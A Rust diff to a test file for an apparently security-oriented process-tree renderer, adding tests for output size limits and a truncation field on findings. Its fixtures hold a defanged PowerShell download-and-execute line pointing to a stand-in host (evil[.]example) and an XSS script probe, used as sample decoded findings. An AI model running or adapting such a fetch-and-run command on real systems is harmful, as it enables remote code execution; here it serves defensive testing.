@@ -97,6 +97,23 @@ fn a_chain_of_a_hundred_thousand_is_drawn_flat_from_some_level_on() {
 }
 
 #[test]
+fn a_chain_above_the_heaviest_does_not_fill_the_page() {
+    let mut nodes: Vec<TreeNode> = (0..50_000).map(|it| node(it, "x")).collect();
+    nodes.push(TreeNode { weight: 9, ..node(50_000, "rare at the end") });
+    nodes.push(TreeNode { weight: 8, ..node(0, "rare beside") });
+    let tree = tree(nodes);
+    for at_most in [300, 2_000] {
+        let text = Tree { at_most: Some(at_most), ..tree.clone() }.to_text();
+        let drawn = text.lines().skip(2).filter(|it| !it.contains("not drawn")).count();
+        assert_eq!(drawn, at_most);
+        assert!(text.contains("rare at the end") && text.contains("  rare beside"));
+    }
+    let html = tree.to_html().into_string();
+    assert!(html.len() < 1_000_000, "{} bytes", html.len());
+    assert!(tree.to_svg().to_string().len() < 1_000_000);
+}
+
+#[test]
 fn nothing_is_a_tree_too() {
     assert_eq!(tree(vec![]).to_text(), "Processes\n0 processes");
     assert!(tree(vec![]).to_html().as_str().contains("0 processes"));
@@ -106,7 +123,8 @@ fn nothing_is_a_tree_too() {
 
 fn with_finds(depth: usize, label: &str) -> TreeNode {
     let lines = vec!["IEX (iwr hxxp://evil[.]example/a)".to_owned(), "<script>alert(1)</script>".to_owned()];
-    TreeNode { finds: vec![TreeFind { title: "decoded base64".to_owned(), lines }], ..node(depth, label) }
+    let find = TreeFind { title: "decoded base64".to_owned(), lines, more: 0 };
+    TreeNode { finds: [find].into(), ..node(depth, label) }
 }
 
 #[test]
@@ -124,7 +142,7 @@ fn what_was_found_is_folded_at_its_node_and_keeps_it_open() {
     let found =
         "    powershell.exe\n        ↳ decoded base64\n            IEX (iwr hxxp://evil[.]example/a)\n";
     assert!(text.contains(found), "{text}");
-    let many = TreeFind { title: "many".to_owned(), lines: vec!["x".to_owned(); 40] };
+    let many = TreeFind { title: "many".to_owned(), lines: vec!["x".to_owned(); 40], more: 0 };
     assert_eq!(many.outline().last().map(String::as_str), Some("    … 28 more"));
 }
 
